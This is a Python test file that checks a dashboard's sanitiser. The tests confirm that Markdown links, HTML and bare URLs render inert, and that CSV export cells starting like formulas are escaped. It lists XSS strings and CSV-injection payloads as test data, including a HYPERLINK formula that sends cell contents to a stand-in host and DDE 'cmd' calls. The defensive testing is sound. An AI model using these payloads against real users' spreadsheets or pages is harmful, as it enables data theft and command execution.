"""Text from links and data is inert: no Markdown link, image or HTML; no spreadsheet formula."""

from __future__ import annotations

import html
import re

import pytest
from markdown_it import MarkdownIt

from dashboard.text import inert, neutralise_cell, plain

HOSTILE = [
    "![x](https://evil.example/x.png)",
    "[Official notice: re-login here](https://evil.example/login)",
    "<img src=x onerror=alert(1)>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "https://evil.example/auto",
    "www.evil.example",
    "**bold** _it_ `code` $x^2$ # heading",
    "<https://evil.example>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_inert_text_renders_as_its_own_characters(text: str) -> None:
    rendered = MarkdownIt("gfm-like").render(inert(text))
    assert not re.search(r"<(a|img|script|strong|em|code|h1)\b", rendered)
    # what a reader sees is the text itself (entities and invisible joiners aside)
    assert shown_text(inert(text)).replace(ZWJ, "") == html.unescape(text).replace("\n", " ")


ZWJ = "\u200d"
GFM_LITERAL_URL = re.compile(r"(https?://|www(?=\.))([-.\w]+)([^ \t\r\n]*)", re.I | re.A)
GFM_LITERAL_EMAIL = re.compile(r"(?:^|(?<=\W))([-.\w+]+)@([-\w]+(?:\.[-\w]+)+)", re.A)
"""The patterns remark-gfm (Streamlit's Markdown) runs over text it has already unescaped,
as in Streamlit 1.67's StreamlitMarkdown bundle; the e-mail one is looser here (any non-word
character before it, not only spaces, punctuation and symbols)."""


def shown_text(markdown: str) -> str:
    """The text of rendered Markdown with every escape undone, as remark-gfm sees it."""
    rendered = MarkdownIt("commonmark").render(markdown)
    return html.unescape(re.sub(r"<[^>]+>", "", rendered)).strip()


@pytest.mark.parametrize(
    "text",
    [
        "https://evil.example/auto",
        "ดูที่ HTTP://evil.example/a นะ",
        "www.evil.example",
        "เว็บ WwW.evil.example/x",
        "ถามได้ที่ a.b@evil.example",
        "![x](https://evil.example/x.png)",
        "<https://evil.example>",
        "ftp://x https://evil.example www.evil.example/a@evil.example",
    ],
)
def test_a_bare_url_or_address_in_inert_text_is_no_autolink(text: str) -> None:
    def autolinked(shown: str) -> bool:
        return bool(GFM_LITERAL_URL.search(shown) or GFM_LITERAL_EMAIL.search(shown))

    seen = shown_text(inert(text))
    assert autolinked(html.unescape(text))  # the patterns find it untreated
    assert not autolinked(seen), seen
    assert seen.replace(ZWJ, "") == html.unescape(text)


def test_direction_controls_are_dropped_from_shown_text() -> None:
    text = "district\u202e1001\u2066x\u2069\u200e\u200f\u061c\u202a\u202b\u202c\u202d\u2067\u2068"
    assert plain(text) == "district1001x"
    assert shown_text(inert(text)) == "district1001x"
    assert plain("ถนน\u200dเสีย") == "ถนน\u200dเสีย"  # a joiner is not a direction control


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        (
            '=HYPERLINK("http://evil.example/?leak="&A1,"x")',
            '\'=HYPERLINK("http://evil.example/?leak="&A1,"x")',
        ),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("  =1+1", "'  =1+1"),
        ("ถนนเป็นหลุม", "ถนนเป็นหลุม"),
        ("", ""),
        (13.75, 13.75),
        (None, None),
    ],
)
def test_a_cell_that_starts_like_a_formula_stays_text(cell: object, safe: object) -> None:
    assert neutralise_cell(cell) == safe


PAYLOADS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]


def test_every_text_column_of_a_csv_export_is_neutralised() -> None:
    import csv
    import io

    import pandas as pd

    from dashboard.render import exports

    n = len(PAYLOADS)
    frame = pd.DataFrame(
        {
            "ticket_id": PAYLOADS,
            "reported_at": pd.to_datetime(["2022-06-01 03:00:00+00"] * n),
            "last_activity": pd.to_datetime([None] * n, utc=True),
            "state": ["waiting"] * n,
            "categories": [[p] for p in PAYLOADS],
            "district_code": ["1006"] * n,
            "subdistrict_code": ["100601"] * n,
            "age_days": [1] * n,
            "comment": PAYLOADS,
            "address": PAYLOADS,
            "photo": PAYLOADS,
            "photo_after": [None] * n,
            "lon": [-100.5] * n,
            "lat": [13.7] * n,
            "location_issue": [None] * n,
        }
    )
    table = exports.export_frame(frame, names={}, lang="en", with_finish_times=False)
    text = exports.tickets_csv(table).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    for row, payload in zip(rows, PAYLOADS, strict=True):
        for column in ("ticket_id", "categories", "comment", "address", "photo"):
            assert row[column] == "'" + payload, (column, row[column])
        assert row["lon"] == "-100.5"  # numbers stay numbers
